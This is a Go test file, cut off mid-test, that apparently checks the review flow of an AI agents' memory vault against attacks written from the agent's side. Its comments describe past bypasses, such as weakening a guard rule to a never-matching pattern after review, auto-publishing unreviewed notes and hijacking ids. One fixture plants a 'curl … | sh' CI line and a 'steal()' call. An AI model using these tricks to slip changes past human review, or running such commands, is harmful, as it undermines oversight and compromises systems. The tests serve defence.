package drafts

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/lore-memory/lore/internal/testvault"
	"github.com/lore-memory/lore/vault"
)

// Attacks on the review flow, written from the agent's side (issue: trust).
// Each one got past review, lost an acknowledged update or broke the vault
// for everyone before the fix it names.

// orgHead is the org ref's commit.
func (tv *tvault) orgHead() string {
	tv.t.Helper()
	return strings.TrimSpace(tv.git("rev-parse", "refs/heads/main"))
}

// published reports whether the org ref holds path with text in it.
func (tv *tvault) published(path, text string) bool {
	tv.t.Helper()
	cmd := []string{"show", "refs/heads/main:" + path}
	out, err := gitTry(tv.root, cmd...)
	return err == nil && strings.Contains(out, text)
}

func gitTry(dir string, args ...string) (string, error) {
	out, err := runGit(context.Background(), dir, args...)
	return out, err
}

func TestAttack_AutoPublishRenameOfADecisionIntoJournal(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	before := tv.orgHead()
	r := tv.apply("api", vault.Op{Rename: &vault.RenameOp{ID: "mem_adr1", NewPath: "journal/gone.md"}})
	if r.Published {
		t.Fatalf("a rename of decisions/0001.md into journal/ was published without review: %+v", r)
	}
	if tv.orgHead() != before || !tv.published("decisions/0001.md", "Use SQLite") {
		t.Fatal("the org ref lost the decision")
	}
	if !strings.Contains(tv.read("decisions/0001.md"), "Use SQLite") {
		t.Fatal("the work tree lost the decision")
	}
	if ds, _ := tv.s.List(context.Background(), "api", false); len(ds) != 1 {
		t.Fatalf("want the rename waiting as one open Draft, got %d", len(ds))
	}
}

func TestAttack_RememberedJournalNoteWithAGuardRuleWaits(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	ctx := context.Background()
	before := tv.orgHead()
	body := "---\ntitle: Standup\nguard:\n  - id: block-all\n    deny: \".\"\n---\n# Standup\n\nnothing\n"
	r, err := tv.s.Remember(ctx, "api", "journal/u1/p1/", vault.CreateOp{Path: "journal/u1/p1/standup.md", Body: body})
	if err != nil || r.Published || tv.orgHead() != before {
		t.Fatalf("a journal note carrying a guard rule was published: %+v %v", r, err)
	}
	body2 := "# Standup\n\n## Rules\n\n- deny: `SELECT`\n"
	r, err = tv.s.Remember(ctx, "web", "journal/u1/p1/", vault.CreateOp{Path: "journal/u1/p1/standup2.md", Body: body2})
	if err != nil || r.Published || tv.orgHead() != before {
		t.Fatalf("a journal note carrying a body-form rule was published: %+v %v", r, err)
	}
	// An ordinary remembered note still publishes at once.
	r, err = tv.s.Remember(ctx, "api", "journal/u1/p1/", vault.CreateOp{Path: "journal/u1/p1/today.md", Body: "# Today\n\nshipped\n"})
	if err != nil || !r.Published || !tv.published("journal/u1/p1/today.md", "shipped") {
		t.Fatalf("a plain remembered note was not published: %+v %v", r, err)
	}
}

// TestAttack_StoreNeverPublishesJournalNotes: with the old default
// auto_publish of journal/**, a memory store's create, update and delete of
// a journal note each returned published: true, and the org ref gained
// three commits with no person involved. A store never publishes; a delete
// of a published note leaves a Delete Draft for review.
func TestAttack_StoreNeverPublishesJournalNotes(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"lore.yaml":                   "projects:\n  api: {}\nauto_publish:\n  - journal/**\n",
		"journal/agent/notes/kept.md": "---\nid: mem_kept\n---\n# Kept\n\npublished journal text\n",
	})
	tv := newVault(t, "", files)
	before := tv.orgHead()
	r := tv.apply("api", vault.Op{Create: &vault.CreateOp{Path: "journal/agent/notes/2026/direct.md", Body: "# Direct\n\nwritten by an agent\n"}})
	if r.Published || tv.orgHead() != before {
		t.Fatalf("store create of a journal note published it: %+v", r)
	}
	// Journal notes are not in the memory an agent loads; the hash is the
	// file's, as an agent that read the file would send it.
	hash := vault.HashBytes([]byte(tv.read("journal/agent/notes/kept.md")))
	r = tv.apply("api", update("mem_kept", hash, "published journal text", "rewritten by an agent"))
	if r.Published || tv.orgHead() != before {
		t.Fatalf("store update of a published journal note published it: %+v", r)
	}
	r = tv.apply("web", vault.Op{Delete: &vault.DeleteOp{ID: "mem_kept"}})
	if r.Published || tv.orgHead() != before || !tv.published("journal/agent/notes/kept.md", "published journal text") {
		t.Fatalf("store delete of a published journal note published it: %+v", r)
	}
	if ds, _ := tv.s.List(context.Background(), "web", false); len(ds) != 1 || ds[0].Operations[len(ds[0].Operations)-1].Op != "delete" {
		t.Fatalf("want the delete waiting as a Delete Draft, got %+v", ds)
	}
}

// TestAttack_RememberWritesOnlyNewNotesInItsFolder: the journal's remember
// publishes its own new notes, and nothing else: not outside its
// namespace's folder, not over a published note.
func TestAttack_RememberWritesOnlyNewNotesInItsFolder(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"journal/u1/p1/old.md": "---\nid: mem_old\n---\n# Old\n\nkept\n",
	})
	tv := newVault(t, "", files)
	ctx := context.Background()
	before := tv.orgHead()
	for _, tc := range []struct{ folder, path string }{
		{"journal/u1/p1/", "journal/u2/p1/x.md"},
		{"journal/u1/p1/", "decisions/x.md"},
		{"journal/u1/p1/", "journal/u1/p1/../../u2/p1/x.md"},
		{"decisions/", "decisions/x.md"},
		{"journal/../decisions/", "decisions/x.md"},
	} {
		if r, err := tv.s.Remember(ctx, "api", tc.folder, vault.CreateOp{Path: tc.path, Body: "# X\n\nx\n"}); vault.ErrorCode(err) != vault.CodeInvalid {
			t.Errorf("remember in %s at %s: %+v, %v; want invalid_input", tc.folder, tc.path, r, err)
		}
	}
	if _, err := tv.s.Remember(ctx, "api", "journal/u1/p1/", vault.CreateOp{Path: "journal/u1/p1/old.md", Body: "# Old\n\nreplaced\n"}); err == nil {
		t.Error("remember over a published note was accepted")
	}
	if tv.orgHead() != before || !tv.published("journal/u1/p1/old.md", "kept") {
		t.Fatal("the org ref changed")
	}
}

func TestAttack_AutoPublishSupersedingADecisionFromJournal(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"decisions/0004.md": "---\nid: mem_adr4\ntitle: Retry budget\nguard:\n  - id: no-sleep\n    deny: \"time.Sleep\"\n---\n# Retry budget\n",
	})
	tv := newVault(t, "", files)
	before := tv.orgHead()
	r, err := tv.s.CreateSuperseding(context.Background(), "api", vault.CreateOp{Path: "journal/x.md", Body: "# X\n\nnew budget\n"}, []string{"decisions/0004.md"})
	if err != nil {
		t.Fatal(err)
	}
	if r.Published || tv.orgHead() != before {
		t.Fatalf("a note that marks a decision superseded was published: %+v", r)
	}
	if !strings.Contains(tv.read("decisions/0004.md"), "time.Sleep") || strings.Contains(tv.read("decisions/0004.md"), "superseded") {
		t.Fatal("the decision changed in the work tree without review")
	}
}

func TestAttack_AutoPublishOfAnEditThatDropsARule(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"lore.yaml":      "projects:\n  api: {}\nauto_publish: [notes/**]\n",
		"notes/rules.md": "---\nid: mem_jr\nguard:\n  - id: r1\n    deny: \"rm -rf\"\n---\n# Rules kept in notes\n\ntext\n",
	})
	tv := newVault(t, "", files)
	before := tv.orgHead()
	cur := tv.load("api", "mem_jr")
	r := tv.apply("api", update("mem_jr", cur.ContentHash, "    deny: \"rm -rf\"\n", "    deny: \"never-matches-anything-x\"\n"))
	if r.Published || tv.orgHead() != before {
		t.Fatalf("a change to a guard rule inside an old auto_publish glob was published: %+v", r)
	}
	cur = tv.load("api", "mem_jr")
	r = tv.apply("api", update("mem_jr", cur.ContentHash, "text\n", "more text\n"))
	if r.Published {
		t.Fatalf("the Draft still changes the rule; it must wait: %+v", r)
	}
}

// indexDB opens the index file the test's store uses, as another process would.
func (tv *tvault) indexDB() *sql.DB {
	tv.t.Helper()
	db, err := sql.Open("sqlite3", "file:"+tv.v.IndexPath()+"?_busy_timeout=10000")
	if err != nil {
		tv.t.Fatal(err)
	}
	tv.t.Cleanup(func() { db.Close() })
	return db
}

// A slower process can leave the shared index holding an older copy of a
// Draft. The hash check must be made against the branch itself: with the
// index's copy an old expected_hash passed, and the commit on the real head
// undid the previous acknowledged update.
func TestAttack_StaleIndexCannotLoseAnAcknowledgedUpdate(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	ctx := context.Background()
	orig := tv.load("api", "mem_release")
	tv.apply("api", update("mem_release", orig.ContentHash, "Run the tests first.", "Run the tests first.\n\nFIRST acknowledged line."))
	// Put the index's copy of the Draft back to the original text, with the
	// signature of the current refs, as a slower process's overlay would.
	tv.load("api", "mem_release") // the overlay is written for the current refs
	db := tv.indexDB()
	if _, err := db.Exec("UPDATE resources SET body = ?, content_hash = ? WHERE draft != '' AND path = 'howto/release.md'", orig.Content, orig.ContentHash); err != nil {
		t.Fatal(err)
	}
	_, err := tv.s.Apply(ctx, "api", update("mem_release", orig.ContentHash, "Run the tests first.", "Run the tests first.\n\nSECOND line."))
	if vault.ErrorCode(err) != vault.CodeContentChanged {
		t.Fatalf("an update against the stale copy's hash: %v; want memory_content_changed", err)
	}
	// The right hash (the branch's) works and keeps the first update.
	want := vault.HashBytes([]byte(strings.Replace(orig.Content, "Run the tests first.", "Run the tests first.\n\nFIRST acknowledged line.", 1)))
	r := tv.apply("api", update("mem_release", want, "FIRST acknowledged line.", "FIRST acknowledged line.\nSECOND line."))
	body := tv.git("show", BranchPrefix+"api/"+r.DraftID+":howto/release.md")
	if !strings.Contains(body, "FIRST acknowledged line.\nSECOND line.") {
		t.Fatalf("the Draft lost an acknowledged update:\n%s", body)
	}
}

// An index that does not hold a note (being rebuilt, or behind) must not
// make an existing note missing for store, nor let a create take its path.
func TestAttack_EmptyIndexNeitherHidesNorFreesANote(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	ctx := context.Background()
	cur := tv.load("api", "mem_release")
	db := tv.indexDB()
	// The index believes it is fresh but shows neither note to the project:
	// what a reader saw mid-rebuild.
	if _, err := db.Exec("UPDATE resources SET project = 'elsewhere' WHERE path IN ('howto/release.md', 'decisions/0001.md')"); err != nil {
		t.Fatal(err)
	}
	tv.missing("api", "mem_release")
	_, err := tv.s.Apply(ctx, "api", vault.Op{Create: &vault.CreateOp{Path: "howto/release.md", Body: "# Replaced\n"}})
	if vault.ErrorCode(err) != vault.CodeInvalid || !strings.Contains(err.Error(), "already exists") {
		t.Fatalf("create over an existing published note: %v; want it refused", err)
	}
	r, err := tv.s.Apply(ctx, "api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
	if err != nil {
		t.Fatalf("update of an existing note the index does not hold: %v", err)
	}
	if r.Path != "howto/release.md" {
		t.Fatalf("update went to %q", r.Path)
	}
	if _, err := tv.s.Apply(ctx, "web", vault.Op{Rename: &vault.RenameOp{ID: "mem_adr1", NewPath: "decisions/sqlite.md"}}); err != nil {
		t.Fatalf("rename of an existing note the index does not hold: %v", err)
	}
}

func TestAttack_DiscardByResourceOfADeleteDraft(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	r := tv.apply("api", vault.Op{Delete: &vault.DeleteOp{ID: "mem_release"}})
	d := tv.apply("api", vault.Op{Discard: &vault.DiscardOp{ID: "mem_release"}})
	if d.DraftID != r.DraftID || d.Operation != "discard" {
		t.Fatalf("discard by the deleted resource's id: %+v (the Draft was %s)", d, r.DraftID)
	}
	r = tv.apply("api", vault.Op{Delete: &vault.DeleteOp{ID: "howto/release.md"}})
	if d = tv.apply("api", vault.Op{Discard: &vault.DiscardOp{ID: "howto/release.md"}}); d.DraftID != r.DraftID {
		t.Fatalf("discard by the deleted resource's path: %+v", d)
	}
}

// An unmerged Draft must not switch guard rules on or off: rules and the
// status that decides whether they apply come from published memory.
func TestAttack_UnmergedDraftDoesNotSwitchRules(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"decisions/0004.md": "---\nid: mem_adr4\ntitle: Retry budget\nguard:\n  - id: no-sleep\n    deny: \"time.Sleep\"\n---\n# Retry budget\n",
	})
	tv := newVault(t, "", files)
	ctx := context.Background()
	if _, err := tv.s.CreateSuperseding(ctx, "api", vault.CreateOp{Path: "decisions/0005.md", Body: "# New budget\n"}, []string{"mem_adr4"}); err != nil {
		t.Fatal(err)
	}
	tv.apply("api", vault.Op{Create: &vault.CreateOp{Path: "notes/block.md", Body: "---\nguard:\n  - id: block-all\n    deny: \".\"\n---\n# Block\n"}})
	// The project itself sees its Draft (status superseded) ...
	if got := tv.load("api", "mem_adr4").Content; !strings.Contains(got, "status: superseded") {
		t.Fatalf("the project should still see its own Draft:\n%s", got)
	}
	// ... but the rules are the published ones.
	rows, err := tv.ix.RuleSources(ctx, "api")
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, r := range rows {
		for _, spec := range r.Rules {
			ids = append(ids, spec.ID+"@"+r.Status)
		}
		if r.DraftID != "" {
			t.Errorf("rule source %s comes from Draft %s", r.Path, r.DraftID)
		}
	}
	if strings.Join(ids, ",") != "no-sleep@active" {
		t.Fatalf("rules seen by guard: %v; want only no-sleep, still active", ids)
	}
}

// mergeCrashWorker merges LORE_MERGE_IDS in LORE_DIR and dies (exit 137,
// no clean-up, as a SIGKILL) at the step LORE_MERGE_CRASH names. With
// LORE_MERGE_PARTIAL it first undoes the work-tree update of one file and
// leaves git's index lock behind, as a read-tree killed half-way would; with
// LORE_MERGE_REFLOCK it leaves a young lock (a few seconds old when the next
// process comes) on the org ref or a Draft's branch.
func mergeCrashWorker() int {
	ctx := context.Background()
	v, _, s, err := openAll(os.Getenv("LORE_DIR"))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	crashHook = func(point string) {
		if point != os.Getenv("LORE_MERGE_CRASH") {
			return
		}
		if f := os.Getenv("LORE_MERGE_PARTIAL"); f != "" {
			os.WriteFile(filepath.Join(v.Root, f), []byte(os.Getenv("LORE_MERGE_PARTIAL_TEXT")), 0o644)
			lock := filepath.Join(v.GitDir, "index.lock")
			os.WriteFile(lock, nil, 0o644)
			old := time.Now().Add(-time.Minute)
			os.Chtimes(lock, old, old)
		}
		lockRef := func(p string) {
			os.WriteFile(p+".lock", nil, 0o644)
			young := time.Now().Add(-3 * time.Second)
			os.Chtimes(p+".lock", young, young)
		}
		switch os.Getenv("LORE_MERGE_REFLOCK") {
		case "org-lock": // killed while moving the org ref
			lockRef(filepath.Join(v.GitDir, "refs/heads/main"))
		case "branch-lock": // killed while deleting a merged Draft's branch
			filepath.WalkDir(filepath.Join(v.GitDir, "refs/heads/drafts"), func(p string, d os.DirEntry, err error) error {
				if err == nil && !d.IsDir() {
					lockRef(p)
					return filepath.SkipAll
				}
				return nil
			})
		}
		os.Exit(137)
	}
	_, err = s.Merge(ctx, strings.Fields(os.Getenv("LORE_MERGE_IDS")))
	fmt.Fprintln(os.Stderr, "merge returned without crashing:", err)
	return 1
}

// A SIGKILL at any step of a merge leaves it complete or absent, and the
// next lore process finishes it by itself: the org ref holds both Drafts,
// the work tree and git's index match it, no Draft stays open.
func TestAttack_MergeKilledAtEachStepIsFinishedByTheNextProcess(t *testing.T) {
	for _, c := range []struct{ point, partial, reflock string }{
		{"after-intent", "", ""}, {"after-worktree", "", ""}, {"after-worktree", "howto/release.md", ""}, {"after-org", "", ""},
		{"after-worktree", "", "org-lock"}, {"after-org", "", "branch-lock"},
	} {
		t.Run(c.point+c.partial+c.reflock, func(t *testing.T) {
			tv := newVault(t, "", baseFiles)
			cur := tv.load("api", "mem_release")
			a := tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
			b := tv.apply("web", vault.Op{Create: &vault.CreateOp{Path: "notes/new.md", Body: "# New\n\nfrom web\n"}})
			before := tv.orgHead()
			cmd := exec.Command(os.Args[0], "-test.run", "^$")
			cmd.Env = append(os.Environ(), gitEnv...)
			cmd.Env = append(cmd.Env, "LORE_MERGE_CRASH="+c.point, "LORE_DIR="+tv.dir, "LORE_MERGE_IDS="+a.DraftID+" "+b.DraftID,
				"LORE_MERGE_PARTIAL="+c.partial, "LORE_MERGE_PARTIAL_TEXT="+cur.Content, "LORE_MERGE_REFLOCK="+c.reflock)
			out, err := cmd.CombinedOutput()
			if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 137 {
				t.Fatalf("the worker did not die at %s: %v\n%s", c.point, err, out)
			}
			if _, err := os.Stat(filepath.Join(tv.v.DataDir(), "merge.json")); err != nil {
				t.Fatalf("no merge record left behind: %v", err)
			}
			tv.open() // the next lore process
			if tv.orgHead() == before {
				t.Fatal("the org ref did not move: the merge was not finished")
			}
			if !tv.published("howto/release.md", "then tag") || !tv.published("notes/new.md", "from web") {
				t.Fatal("the org ref lacks a merged Draft")
			}
			if !strings.Contains(tv.read("howto/release.md"), "then tag") || !strings.Contains(tv.read("notes/new.md"), "from web") {
				t.Fatal("the work tree lacks a merged Draft's text")
			}
			if st := tv.git("status", "--porcelain"); strings.TrimSpace(st) != "" {
				t.Fatalf("the work tree or git's index differ from the org ref:\n%s", st)
			}
			if ds, _ := tv.s.List(context.Background(), "", false); len(ds) != 0 {
				t.Fatalf("%d Drafts still open", len(ds))
			}
			if left := tv.git("for-each-ref", "refs/heads/drafts/"); left != "" {
				t.Fatalf("merged Drafts' branches are left:\n%s", left)
			}
			if _, err := os.Stat(filepath.Join(tv.v.DataDir(), "merge.json")); err == nil {
				t.Fatal("the merge record was not cleared")
			}
			// And merging goes on working.
			c2 := tv.apply("api", vault.Op{Create: &vault.CreateOp{Path: "notes/after.md", Body: "# After\n"}})
			if _, err := tv.s.Merge(context.Background(), []string{c2.DraftID}); err != nil {
				t.Fatalf("a later merge: %v", err)
			}
		})
	}
}

// When the org ref moved elsewhere before the next process came (a
// person's own commit), the interrupted merge is abandoned and the work
// tree loses the Drafts' unreviewed text; the Drafts stay open.
func TestAttack_InterruptedMergeIsRolledBackWhenTheOrgRefMoved(t *testing.T) {
	tv := newVault(t, "", baseFiles)
	cur := tv.load("api", "mem_release")
	a := tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
	cmd := exec.Command(os.Args[0], "-test.run", "^$")
	cmd.Env = append(os.Environ(), gitEnv...)
	cmd.Env = append(cmd.Env, "LORE_MERGE_CRASH=after-worktree", "LORE_DIR="+tv.dir, "LORE_MERGE_IDS="+a.DraftID)
	if out, err := cmd.CombinedOutput(); err == nil {
		t.Fatalf("the worker did not die:\n%s", out)
	}
	// A person commits another file with git plumbing (the work tree holds
	// the unreviewed text, which they do not commit).
	head := tv.orgHead()
	commit := strings.TrimSpace(tv.git("commit-tree", "-p", head, "-m", "person", strings.TrimSpace(tv.git("rev-parse", head+"^{tree}"))))
	tv.git("update-ref", "refs/heads/main", commit, head)
	tv.open()
	if strings.Contains(tv.read("howto/release.md"), "then tag") {
		t.Fatal("the work tree still holds the abandoned merge's unreviewed text")
	}
	if ds, _ := tv.s.List(context.Background(), "api", false); len(ds) != 1 {
		t.Fatalf("the Draft should stay open for review, got %d", len(ds))
	}
}

// A ref update killed after creating "<ref>.lock" left the lock behind, and
// every later store on that Draft failed. A lock older than StaleLock is
// cleared; StaleLocks names it for lore doctor.
func TestAttack_StaleRefLockIsCleared(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	cur := tv.load("api", "mem_release")
	r := tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
	lock := filepath.Join(tv.root, ".git", "refs", "heads", "drafts", "api", r.DraftID+".lock")
	if err := os.WriteFile(lock, []byte("0000000000000000000000000000000000000000\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Now().Add(-time.Minute)
	os.Chtimes(lock, old, old)
	if got := StaleLocks(filepath.Join(tv.root, ".git")); len(got) != 1 || got[0] != lock {
		t.Fatalf("StaleLocks = %v; want the Draft's lock", got)
	}
	cur = tv.load("api", "mem_release")
	tv.apply("api", update("mem_release", cur.ContentHash, "then tag.", "then tag and push."))
	if _, err := os.Stat(lock); err == nil {
		t.Fatal("the stale lock is still there")
	}
	if got := StaleLocks(filepath.Join(tv.root, ".git")); len(got) != 0 {
		t.Fatalf("StaleLocks = %v after the store", got)
	}
}

// A file name with a newline made init --git fail half-way (a repository
// without a commit, which the next init then adopted as it was). The git CLI
// commits any name git allows.
func TestAttack_InitWithANewlineInAFileName(t *testing.T) {
	t.Parallel()
	dir := filepath.Join(t.TempDir(), "notes")
	os.MkdirAll(dir, 0o755)
	os.WriteFile(filepath.Join(dir, "odd\nname.md"), []byte("# Odd\n"), 0o644)
	os.WriteFile(filepath.Join(dir, "plain.md"), []byte("# Plain\n"), 0o644)
	res, err := Init(dir, true, time.Now)
	if err != nil {
		t.Fatalf("init --git: %v", err)
	}
	if !res.CreatedRepo || res.Committed != 4 {
		t.Fatalf("%+v; want a new repository with 4 files committed", res)
	}
	if out := testvault.Git(t, dir, "ls-tree", "-r", "--name-only", "-z", "HEAD"); !strings.Contains(out, "odd\nname.md") {
		t.Fatalf("the first commit lacks the odd name: %q", out)
	}
	if res, err = Init(dir, true, time.Now); err != nil || res.CreatedRepo || len(res.Wrote) != 0 {
		t.Fatalf("a second init: %+v, %v; want nothing to do", res, err)
	}
}

// A Draft branch holding a path with a control character (written by an
// older lore or a person's git) once made every search, load and guard of
// every project fail. It is left out; the others are read.
func TestAttack_OneBadDraftDoesNotStopTheOthers(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	cur := tv.load("api", "mem_release")
	tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
	tv.git("checkout", "-q", "-b", "drafts/web/drf_01BAD")
	tv.write("bad\tname.md", "# Bad\n\nbad words\n")
	tv.git("add", "-A")
	tv.git("commit", "-qm", "x\n\nLore-Draft: drf_01BAD\nLore-Operation: create\nLore-Path: bad\tname.md")
	tv.git("checkout", "-q", "main")
	os.Remove(filepath.Join(tv.dir, "bad\tname.md"))
	for _, project := range []string{"api", "web"} {
		if _, err := tv.ix.Search(context.Background(), "release tests", searchOpt(project)); err != nil {
			t.Fatalf("search as %s: %v", project, err)
		}
		if got := tv.load(project, "mem_release").Content; project == "api" && !strings.Contains(got, "then tag") {
			t.Fatalf("api lost its own Draft:\n%s", got)
		}
		if _, err := tv.ix.RuleSources(context.Background(), project); err != nil {
			t.Fatalf("rules as %s: %v", project, err)
		}
	}
}

// Discarding a Draft that never reached the remote once answered "synced",
// which says the remote has it. The discard is queued, and the next sync
// confirms it and forgets the row.
func TestContract_DiscardOfANeverSyncedDraftIsQueued(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	withRemote(t, tv)
	r := tv.apply("api", vault.Op{Create: &vault.CreateOp{Path: "notes/x.md", Body: "# X\n"}})
	d := tv.apply("api", vault.Op{Discard: &vault.DiscardOp{ID: r.DraftID}})
	if d.SyncStatus != "queued" || !d.Queued {
		t.Fatalf("discard of a never-synced Draft: %+v; want queued", d)
	}
	if _, err := tv.s.syncWith(context.Background(), SyncOptions{}); err != nil {
		t.Fatalf("sync: %v", err)
	}
	if e := outboxOf(t, tv.s, r.DraftID); e.DraftID != "" {
		t.Fatalf("after a sync the outbox still has %+v", e)
	}
}

// TestAttack_UpdateCannotRewriteAnID: an update that replaced "id:
// ctx_legacy01" with "id: mem_hijack" was accepted; the note then loaded as
// mem_hijack and ctx_legacy01 was not found. Ids are stable: an update that
// changes, removes or adds the frontmatter id is refused naming the field,
// and other frontmatter edits still work.
func TestAttack_UpdateCannotRewriteAnID(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"notes/legacy.md": "---\nid: ctx_legacy01\ntitle: Legacy\n---\n# Legacy\n\nold text\n",
		"notes/plain.md":  "# Plain\n\nno id\n",
	})
	tv := newVault(t, "", files)
	ctx := context.Background()
	cur := tv.load("api", "ctx_legacy01")
	plain := tv.load("api", "notes/plain.md")
	for name, op := range map[string]vault.Op{
		"change":     update("ctx_legacy01", cur.ContentHash, "id: ctx_legacy01", "id: mem_hijack"),
		"remove":     update("ctx_legacy01", cur.ContentHash, "id: ctx_legacy01\n", ""),
		"break yaml": update("ctx_legacy01", cur.ContentHash, "title: Legacy", "title: [oops"),
		"add":        update(plain.ResourceID, plain.ContentHash, "# Plain", "---\nid: mem_taken\n---\n# Plain"),
	} {
		_, err := tv.s.Apply(ctx, "api", op)
		if vault.ErrorCode(err) != vault.CodeInvalid || !strings.Contains(err.Error(), "id") {
			t.Errorf("%s: %v; want invalid_input naming the field id", name, err)
		}
	}
	if ds, _ := tv.s.List(ctx, "api", false); len(ds) != 0 {
		t.Fatalf("a refused update left %d Drafts", len(ds))
	}
	r := tv.apply("api", update("ctx_legacy01", cur.ContentHash, "title: Legacy", "title: Legacy notes"))
	if got := tv.load("api", "ctx_legacy01"); got.Title != "Legacy notes" || got.DraftID != r.DraftID {
		t.Fatalf("a title edit did not land: %+v", got)
	}
}

// TestAttack_AMergeNamesTheHeadReviewed: a person viewed a benign Draft's
// diff; the agent then stored a second update to the same note, which
// joined the Draft and turned a guard rule's pattern into one that never
// matches; the merge (ids only) published it. A merge that names the head
// the person saw stops when the Draft moved, and merges nothing.
func TestAttack_AMergeNamesTheHeadReviewed(t *testing.T) {
	t.Parallel()
	files := withFiles(map[string]string{
		"decisions/adr-015.md": "---\nid: mem_adr15\nguard:\n  - id: ADR-015-no-select-star\n    deny: \"SELECT \\\\* FROM\"\n---\n# ADR 015\n\nNo select star.\n",
	})
	tv := newVault(t, "", files)
	ctx := context.Background()
	cur := tv.load("api", "mem_adr15")
	r := tv.apply("api", update("mem_adr15", cur.ContentHash, "No select star.", "Never select star."))
	_, seen, err := tv.s.Diff(ctx, r.DraftID)
	if err != nil {
		t.Fatal(err)
	}
	before := tv.orgHead()
	cur = tv.load("api", "mem_adr15")
	tv.apply("api", update("mem_adr15", cur.ContentHash, `SELECT \\* FROM`, `FROM_NOPE`))
	_, err = tv.s.Merge(ctx, []string{r.DraftID + "@" + seen.Head})
	if vault.ErrorCode(err) != vault.CodeContentChanged || !strings.Contains(err.Error(), "moved after it was reviewed") {
		t.Fatalf("merge of a Draft that moved after review: %v; want memory_content_changed saying it moved", err)
	}
	if tv.orgHead() != before || !tv.published("decisions/adr-015.md", `SELECT \\* FROM`) {
		t.Fatal("the org ref moved")
	}
	for _, bad := range []string{"abc", strings.Repeat("z", 12), seen.Head[:8]} {
		if _, err := tv.s.Merge(ctx, []string{r.DraftID + "@" + bad}); vault.ErrorCode(err) != vault.CodeInvalid {
			t.Errorf("reviewed head %q: %v; want invalid_input", bad, err)
		}
	}
	_, now, err := tv.s.Diff(ctx, r.DraftID[:10])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tv.s.Merge(ctx, []string{r.DraftID + "@" + now.Head[:12]}); err != nil {
		t.Fatalf("merge of the head the person saw now: %v", err)
	}
}

// TestAttack_ADraftPublishesNothingOutsideTheVault: the vault is the folder
// memory/ of a team's code repository. A teammate adds a commit to a Draft
// branch that edits the note and also rewrites main.go and adds a CI
// workflow; the diff a person reviews shows the note only, and the merge
// fast-forwarded main to the Draft's whole tree. The merge refuses, naming
// the files outside the vault, and main is as it was.
func TestAttack_ADraftPublishesNothingOutsideTheVault(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "memory", baseFiles)
	os.WriteFile(filepath.Join(tv.root, "main.go"), []byte("package main\n"), 0o644)
	tv.git("add", "main.go")
	tv.git("commit", "-qm", "code")
	cur := tv.load("api", "mem_release")
	r := tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
	branch := "drafts/api/" + r.DraftID
	msg := tv.git("log", "-1", "--format=%B", branch)
	wt := filepath.Join(t.TempDir(), "wt")
	tv.git("worktree", "add", "-q", wt, branch)
	os.WriteFile(filepath.Join(wt, "main.go"), []byte("package main\n\nfunc init() { steal() }\n"), 0o644)
	os.MkdirAll(filepath.Join(wt, ".github", "workflows"), 0o755)
	os.WriteFile(filepath.Join(wt, ".github", "workflows", "ci.yml"), []byte("run: curl https://example.invalid/x | sh\n"), 0o644)
	run := func(args ...string) {
		cmd := exec.Command("git", args...)
		cmd.Dir, cmd.Env = wt, append(os.Environ(), gitEnv...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	run("add", "-A")
	run("commit", "-qm", msg) // the Draft's own trailers: it reads as one more operation
	tv.git("worktree", "remove", "--force", wt)
	before := strings.TrimSpace(tv.git("rev-parse", "main"))
	head := strings.TrimSpace(tv.git("rev-parse", branch))
	_, err := tv.s.Merge(context.Background(), []string{r.DraftID + "@" + head[:12]})
	if err == nil || !strings.Contains(err.Error(), "outside the vault folder") || !strings.Contains(err.Error(), "main.go") || !strings.Contains(err.Error(), ".github/workflows/ci.yml") {
		t.Fatalf("merge of a Draft that changes code: %v", err)
	}
	if after := strings.TrimSpace(tv.git("rev-parse", "main")); after != before {
		t.Fatalf("main moved from %s to %s", before, after)
	}
	if got := tv.git("show", "main:main.go"); got != "package main\n" {
		t.Fatalf("main.go on main: %q", got)
	}
}

// TestAttack_AMergePublishesNothingUnreviewed: after the person reviewed a
// harmless Draft, something with write access to the vault's work tree
// planted a note and weakened a rule, uncommitted; the merge committed
// those edits as the person and published them, naming none. The merge now
// refuses and names them, and main is as it was; they are recorded only
// when the person asks.
func TestAttack_AMergePublishesNothingUnreviewed(t *testing.T) {
	t.Parallel()
	tv := newVault(t, "", baseFiles)
	ctx := context.Background()
	cur := tv.load("api", "mem_release")
	d := tv.apply("api", update("mem_release", cur.ContentHash, "Run the tests first.", "Run the tests, then tag."))
	head := strings.TrimSpace(tv.git("rev-parse", "drafts/api/"+d.DraftID))
	before := strings.TrimSpace(tv.git("rev-parse", "main"))
	tv.write("decisions/adr-003-planted.md", "# ADR 003\n\nSELECT * is fine.\n")
